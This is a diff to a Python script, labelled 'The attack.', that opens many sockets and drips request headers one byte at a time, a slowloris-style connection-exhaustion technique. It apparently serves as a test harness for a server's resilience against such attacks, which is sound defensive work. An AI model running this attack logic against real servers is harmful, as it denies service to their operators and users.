@@ -23,7 +23,6 @@ import base64
 import selectors
 import socket
 import sys
-import time
 
 ORIGIN = "https://good.example"
 
@@ -31,8 +30,24 @@ ORIGIN = "https://good.example"
 def main(kind: str, port: int, cookie: str, count: int) -> None:
     """The attack."""
     first, then, greets = _words(kind, port, cookie)
+    drips = kind == "heads"
     selector = selectors.DefaultSelector()
     sockets: dict[socket.socket, memoryview] = {}
+
+    def speak(sock: socket.socket) -> None:
+        left = sockets[sock]
+        try:
+            sent = sock.send(left[:1] if drips else left)
+        except BlockingIOError:
+            return
+        except OSError:
+            if not drips:
+                selector.unregister(sock)
+            del sockets[sock]
+            sock.close()
+            open_one()
+        else:
+            sockets[sock] = left[sent:] if sent < len(left) else memoryview(then)
 
     def open_one() -> None:
         sock = socket.socket()
@@ -49,34 +64,22 @@ def main(kind: str, port: int, cookie: str, count: int) -> None:
             return
         sock.setblocking(False)
         sockets[sock] = memoryview(then)
-        if then:
+        if then and not drips:
             selector.register(sock, selectors.EVENT_WRITE)
 
     for _ in range(count):
         open_one()
     print("ready", flush=True)
     selector.register(sys.stdin, selectors.EVENT_READ)
-    drips = kind == "heads"
     while True:
         for key, _ in selector.select(1.0):
             if key.fileobj is sys.stdin:
                 return
-            sock = key.fileobj
-            assert isinstance(sock, socket.socket)
-            left = sockets[sock]
-            try:
-                sent = sock.send(left[:1] if drips else left)
-            except BlockingIOError:
-                continue
-            except OSError:
-                selector.unregister(sock)
-                del sockets[sock]
-                sock.close()
-                open_one()
-                continue
-            sockets[sock] = left[sent:] if sent < len(left) else memoryview(then)
+            assert isinstance(key.fileobj, socket.socket)
+            speak(key.fileobj)
         if drips:
-            time.sleep(1.0)
+            for sock in list(sockets):
+                speak(sock)
 
 
 def _words(kind: str, port: int, cookie: str) -> tuple[bytes, bytes, bool]:
